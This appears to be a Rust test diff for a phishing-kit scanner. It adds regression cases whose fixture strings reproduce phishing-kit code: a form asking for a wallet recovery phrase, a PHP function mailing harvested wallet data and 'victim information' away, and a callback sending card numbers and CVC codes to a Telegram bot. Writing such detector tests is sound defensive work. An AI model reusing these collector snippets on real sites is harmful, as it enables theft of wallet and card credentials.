@@ -812,6 +812,10 @@ fn a_page_asking_for_a_wallets_recovery_phrase_is_phishing() {
     );
     let blog = "<p>Never type your recovery phrase into a site.</p><form><textarea name=\"comment\"></textarea></form>";
     assert!(asks_wallet_phrase(blog.as_bytes()).is_none());
+    // Regression: fresh159's `eachwallet1.php`: the phrase beside the keystore and the key.
+    let tabs = "<button>Phrase</button><button>Keystore JSON</button><button>Private Key</button>\n\
+                <form method=post><textarea name=\"phrase\" minlength=\"12\" placeholder=\"Phrase\"></textarea></form>";
+    assert!(asks_wallet_phrase(tabs.as_bytes()).is_some());
 }
 
 #[test]
@@ -1041,4 +1045,31 @@ fn credentials_posted_to_a_discord_webhook_are_collected() {
                  header('Location: otp.php'); exit;";
     assert!(crate::shapes::may_match(login.as_bytes()));
     assert_eq!(found(login), [Why::CredentialCollector]);
+}
+
+#[test]
+fn a_message_about_the_victim_sent_away_is_a_collector() {
+    // Regression: fresh164's wallet kit's `function.php`.
+    let send = "<?php function send($info, $to, $subject) { $x = \"[ BLOCKCHAIN INFORMATION ]<br>\";\n\
+                foreach ($info as $k => $v) { $x .= \"|$k: \" . $v . \"<br>\"; }\n\
+                $x .= \"[ VICTIM INFORMATION ]<br>|Browser: \" . $_SERVER['HTTP_USER_AGENT'];\n\
+                mail($to, $subject, $x, 'From: Mr.Undetected'); }";
+    assert_eq!(found(send), [Why::CredentialCollector]);
+    // A victim-support charity's form, mailing the visitor's own words.
+    let charity =
+        "<?php $m = 'Support request: ' . $_POST['story']; mail('help@charity.example', 'Victim support', $m);";
+    assert!(found(charity).is_empty(), "{:?}", found(charity));
+}
+
+#[test]
+fn a_card_and_its_code_sent_to_a_chat_bot_are_collected() {
+    // Regression: fresh168's Avito scam kit's `callback.php` (labels in Russian).
+    let callback = "<?php include 'send.php'; $r = json_decode(file_get_contents('php://input'), true);\n\
+                    $card_number = $r['data']['card_number']; $card_code = $r['data']['card_cvc'];\n\
+                    $message = \"Номер карты: *\" . $card_number . \"*\\nКод CVC: *\" . $card_code . \"*\"; telegram_send($message, 'personal');";
+    assert_eq!(found(callback), [Why::CredentialCollector]);
+    assert!(crate::shapes::may_match(callback.as_bytes()));
+    // A shop's order note to its own Telegram group names no card.
+    let order = "<?php $m = 'Order ' . $order_id . ' paid: ' . $total; telegram_send($m, 'group');";
+    assert!(found(order).is_empty(), "{:?}", found(order));
 }
